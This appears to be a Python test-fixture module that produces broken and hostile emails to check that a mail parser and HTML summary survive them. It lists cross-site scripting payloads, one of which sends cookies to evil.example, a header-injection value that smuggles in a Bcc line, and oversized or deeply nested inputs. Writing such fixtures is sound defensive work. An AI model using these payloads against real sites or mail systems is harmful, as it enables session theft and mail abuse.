"""Broken and hostile mail: what a pass must survive without losing a message, and what the parser must not misread.

`hostile_mails(n)` takes good full-size notifications (testkit.layouts) and
breaks each in one specific way, or fills it with hostile notes; deterministic
for a seed so a failure can be replayed. The malformed parser fixtures
(`catalogue`) break one genuine compact invitation at a time: cut in its
headers, text or HTML, without boundary, with NUL bytes, nested too deeply...
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable

from .catalogue import add, item
from .compact import genuine, genuine_headers, invitation, message
from .layouts import inmail_email, invitation_email
from .people import EMMA, MARIA, TOM, Person
from .texts import NOTE_MARIA

# Strings that must never be live in the summary HTML.
HOSTILE_NOTES = [
    "<script>document.location='https://evil.example/'+document.cookie</script> great to meet you",
    "<img src=x onerror=alert(1)> we met at the Bristol breakfast",
    '<a href="javascript:alert(1)">see my profile</a>',
    "<style>body{display:none}</style> hi Sam",
    '" onmouseover="alert(1)" data-x="',
    "\u202eelgnis ym ot emoclew\u202c check my page",
    "Нi Ѕam, it's Dаna from the ops breakfast (lookalike letters)",
    "<iframe src=https://evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "[click](javascript:alert(1)) and <b>bold</b> &amp; &lt;entities&gt;",
]


def _header_injection(base: bytes, rng: random.Random) -> bytes:
    return base.replace(b"Subject: ", b"Subject: hi\r\nBcc: victim@example.org\r\nX-Injected: 1\r\nX-Subject: ", 1)


def _truncate(base: bytes, rng: random.Random) -> bytes:
    return base[: rng.randrange(10, max(11, len(base) - 1))]


def _no_boundary(base: bytes, rng: random.Random) -> bytes:
    head, _, body = base.partition(b"\r\n\r\n")
    return head + b"\r\n\r\n" + body.replace(b"--", b"", 3)


def _wrong_boundary(base: bytes, rng: random.Random) -> bytes:
    return base.replace(b'boundary="', b'boundary="nope', 1)


def _wrong_charset(base: bytes, rng: random.Random) -> bytes:
    return base.replace(b"utf-8", rng.choice([b"x-unknown-9", b"utf-7", b"iso-2022-jp", b"us-ascii"]))


def _nulls(base: bytes, rng: random.Random) -> bytes:
    out = bytearray(base)
    for _ in range(20):
        out.insert(rng.randrange(len(out)), 0)
    return bytes(out)


def _long_line(base: bytes, rng: random.Random) -> bytes:
    head, _, body = base.partition(b"\r\n\r\n")
    return head + b"\r\n\r\n" + b"A" * 50_000 + b"\r\n" + body


def _huge_part(base: bytes, rng: random.Random) -> bytes:
    head, _, body = base.partition(b"\r\n\r\n")
    big = b"\r\n".join([b"x" * 998] * 20_000)  # about 20 MB in one part
    return head + b"\r\n\r\n" + big + b"\r\n" + body


def _html_bomb(base: bytes, rng: random.Random) -> bytes:
    nested = b"<div>" * 50_000 + b"hello" + b"</div>" * 50_000
    return (b"From: Dana Whitlock via LinkedIn <invitations@linkedin.com>\r\n"
            b"Subject: Dana Whitlock wants to connect\r\nMessage-ID: <bomb-%d@example>\r\n"
            b"Content-Type: text/html; charset=utf-8\r\n\r\n" % rng.randrange(10**9) + nested)


def _binary(base: bytes, rng: random.Random) -> bytes:
    return bytes(rng.randrange(256) for _ in range(rng.randrange(100, 5000)))


def _headers_only(base: bytes, rng: random.Random) -> bytes:
    return base.partition(b"\r\n\r\n")[0] + b"\r\n"


def _bad_base64(base: bytes, rng: random.Random) -> bytes:
    return base.replace(b"Content-Transfer-Encoding: quoted-printable", b"Content-Transfer-Encoding: base64")


def _bad_encoded_words(base: bytes, rng: random.Random) -> bytes:
    return base.replace(b"Subject: ", b"Subject: =?utf-8?B?!!!notbase64?= =?x-bad?Q?=ZZ?= ", 1)


def _deep_multipart(base: bytes, rng: random.Random) -> bytes:
    parts = [b"Content-Type: multipart/mixed; boundary=\"b%d\"\r\n\r\n--b%d\r\n" % (i, i) for i in range(300)]
    return (b"From: Dana Whitlock via LinkedIn <invitations@linkedin.com>\r\nSubject: deep\r\n"
            b"Message-ID: <deep-%d@example>\r\nMIME-Version: 1.0\r\n" % rng.randrange(10**9) + b"".join(parts) + b"end\r\n")


BREAKERS: list[Callable[[bytes, random.Random], bytes]] = [
    _header_injection, _truncate, _no_boundary, _wrong_boundary, _wrong_charset, _nulls, _long_line,
    _huge_part, _html_bomb, _binary, _headers_only, _bad_base64, _bad_encoded_words, _deep_multipart,
]


def hostile_mails(n: int = 200, seed: int = 0) -> list[bytes]:
    """n broken or hostile mails: hostile notes in well-formed mail, and broken forms of good mail."""
    rng = random.Random(seed)
    out: list[bytes] = []
    for i in range(n):
        person = Person(f"Hostile Sender {i}", "Growth | <b>Sales</b>", "Nowhere")
        note = rng.choice(HOSTILE_NOTES)
        kind = rng.random()
        if kind < 0.3:
            out.append(invitation_email(person, note[:300], seed=10_000 + i))
        elif kind < 0.4:
            out.append(inmail_email(person, note[:80], note, seed=10_000 + i))
        else:
            base = invitation_email(person, note[:300], seed=10_000 + i)
            breaker = BREAKERS[i % len(BREAKERS)]
            if breaker is _huge_part and i >= len(BREAKERS) * 2:
                breaker = _long_line  # two 20 MB mails are enough to prove the point
            out.append(breaker(base, rng))
    return out


# --------------------------------------------------------------------------- the malformed fixtures

def catalogue() -> None:
    """The malformed fixtures (malformed_*): a genuine invitation broken one way at a time."""
    inv = "invitations@linkedin.com"
    base_text, base_html = invitation(MARIA, "en", NOTE_MARIA, "mercado")
    good = genuine((base_text, base_html), from_display=MARIA.name, from_addr=inv, subject="I want to connect",
                   tpl="m2m_invite_single_01")
    maria = [item("invitation", MARIA, NOTE_MARIA, location=MARIA.location)]

    add("malformed_empty", b"", status="unparseable", error_contains="empty")
    add("malformed_whitespace_only", b"\r\n\r\n   \r\n", status="unparseable", error_contains="empty")
    add("malformed_no_headers", ("Hi Sam, I'd like to join your LinkedIn network.\r\n\r\nMaria Lopez\r\n"
                                 "View profile: https://www.linkedin.com/in/maria\r\n").encode(), status="unparseable",
        error_contains="no mail headers")
    garbage = bytes(random.Random(7).randrange(256) for _ in range(6000))
    add("malformed_binary_garbage", garbage, status="unparseable")
    nul = good.replace(b"MIME-Version: 1.0", b"MIME-Version: 1.0\x00", 1).replace(b"Hi Sam", b"Hi\x00 Sam", 1)
    add("malformed_null_bytes", nul, kind="invitation", items=maria, notes="NUL bytes are dropped")
    cut = good.find(b"Content-ID: html-body") + 3000
    add("malformed_truncated_in_html", good[:cut], kind="invitation", items=maria,
        notes="cut inside the HTML part: the complete text part is enough")
    cut = good.find(b"Content-ID: text-body") + 40
    add("malformed_truncated_in_text", good[:cut], status="unparseable", kind="invitation", error_contains="not found",
        notes="an invitation whose body is cut before the card must not read as 'no note'")
    cut = good.find(b"\r\nX-LinkedIn-Template") + 12
    add("malformed_truncated_in_headers", good[:cut], status="unparseable", kind="invitation", error_contains="no body")
    no_boundary = re.sub(rb';\r\n\tboundary="[^"]+"', b"", good, count=1)
    add("malformed_missing_boundary", no_boundary, kind="invitation", items=maria,
        notes="boundary parameter missing: guessed from the first --line")
    wrong = re.sub(rb'boundary="[^"]+"', b'boundary="not-the-real-boundary"', good, count=1)
    add("malformed_wrong_boundary", wrong, kind="invitation", items=maria)
    long_text, long_html = message([TOM], "en", "mercado")
    long_html = long_html.replace("<title></title>", "<title></title><!-- " + "x" * 50_000 + " -->")
    raw = genuine((long_text, long_html), from_display=f"{TOM.name} via LinkedIn", from_addr="messaging-digest-noreply@linkedin.com",
                  subject="Tom just messaged you", tpl="member_message_v2", klass="EMAIL-DEFAULT", cte="8bit",
                  extra=["X-LinkedIn-Long: " + "y" * 50_000])
    add("malformed_50k_char_lines", raw, kind="message", items=[item("message", TOM, "", mutual=None)],
        notes="a 50,000-character header line and HTML line")
    b64_bad = good.replace(b"Content-Transfer-Encoding: quoted-printable\r\nContent-ID: text-body",
                           b"Content-Transfer-Encoding: base64\r\nContent-ID: text-body", 1)
    add("malformed_bad_base64_text", b64_bad, kind="invitation", items=maria,
        notes="text part declared base64 but is not: unreadable, the HTML is used")
    add("malformed_bare_cr", good.replace(b"\r\n", b"\r"), kind="invitation", items=maria, notes="old Mac line ends")
    deep = invitation(EMMA, "en", "Hej Sam! Great chat about error budgets.", "mercado")[1]
    deep = deep.replace("<body", "<body><div>" + "<div><span>" * 4000 + "deep" + "</span></div>" * 4000 + "</div><body", 1)
    add("malformed_deeply_nested_html", genuine(("", deep), from_display=EMMA.name, from_addr=inv, subject="I want to connect",
        tpl="m2m_invite_single_01", html_only=True),
        kind="invitation", items=[item("invitation", EMMA, "Hej Sam! Great chat about error budgets.", location=EMMA.location)],
        notes="8,000 nested tags before the content")
    nested = base_text.encode()
    body = b"Content-Type: text/plain; charset=UTF-8\n\n" + nested
    for level in range(12):
        bnd = f"nest{level}".encode()
        body = (b"Content-Type: multipart/mixed; boundary=\"" + bnd + b"\"\n\n--" + bnd + b"\n" + body + b"\n--" + bnd + b"--\n")
    headers = "\n".join(genuine_headers(from_display=MARIA.name, from_addr=inv, subject="I want to connect",
                                        tpl="m2m_invite_single_01")).encode()
    add("malformed_nested_multipart", headers + b"\n" + body, status="unparseable", kind="invitation",
        error_contains="nested too deeply")
    add("malformed_unknown_encoding", good.replace(b"Content-Transfer-Encoding: quoted-printable", b"Content-Transfer-Encoding: x-gzip64"),
        kind="invitation", items=maria, notes="unknown transfer encoding read as is (the QP soft breaks stay, yet the card and note are found)")
    only_headers = "\r\n".join(genuine_headers(from_display="LinkedIn Job Alerts", from_addr="jobalerts-noreply@linkedin.com",
                                               subject="New jobs for you", tpl="job_alert_digest_01", klass="SAVEDSEARCH")).encode() + b"\r\n"
    add("malformed_headers_only_other", only_headers, kind="other",
        items=[item("other", name="LinkedIn Job Alerts", headline="", mutual=None, profile=None)])
